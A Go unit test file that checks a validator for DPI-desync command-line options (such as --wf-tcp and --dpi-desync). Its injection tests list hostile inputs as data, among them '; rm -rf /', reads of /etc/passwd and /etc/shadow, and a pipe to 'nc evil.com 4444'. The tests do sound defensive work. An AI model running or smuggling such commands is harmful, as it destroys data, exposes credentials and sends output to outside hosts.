package capability

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestValidateCommandLineAccepts(t *testing.T) {
	err := ValidateCommandLine("--wf-tcp 80,443 --dpi-desync fake,split2")
	require.NoError(t, err)
}

func TestValidateCommandLineRejectsInjection(t *testing.T) {
	err := ValidateCommandLine("--wf-tcp 80,443 ; rm -rf /")
	require.Error(t, err)
	assert.Contains(t, err.Error(), ";")
	assert.Contains(t, err.Error(), "rm")
}

func TestInjectionPatternsAllRejected(t *testing.T) {
	patterns := []string{
		"--wf-tcp 80,443 ; cat /etc/passwd",
		"--wf-tcp 80,443 && whoami",
		"--wf-tcp 80,443 | nc evil.com 4444",
		"--wf-tcp $(whoami)",
		"--wf-tcp `whoami`",
		"--wf-tcp 80,443 > /tmp/out",
		"--wf-tcp 80,443 < /etc/shadow",
	}
	for _, p := range patterns {
		t.Run(p, func(t *testing.T) {
			require.Error(t, ValidateCommandLine(p))
		})
	}
}

func TestTokenizeSplitsEqualsForm(t *testing.T) {
	tokens := Tokenize("--dpi-desync=fake,split2 --wf-tcp=80,443")
	assert.Equal(t, []string{"--dpi-desync", "fake,split2", "--wf-tcp", "80,443"}, tokens)
}

func TestValidTokenCategories(t *testing.T) {
	require.NoError(t, ValidateTokens([]string{
		"--wf-tcp", "80,443,8443",
		"--dpi-desync", "fake,split2,disorder",
		"--dpi-desync-fooling", "badseq,md5sig",
		"--dpi-desync-cutoff", "n2",
		"--dpi-desync-split-pos", "1:3:5",
		"C:\\Program Files\\winws\\winws.exe",
		"1000",
		"-1",
		"hosts.txt",
		"v1.2.3",
	}))
}
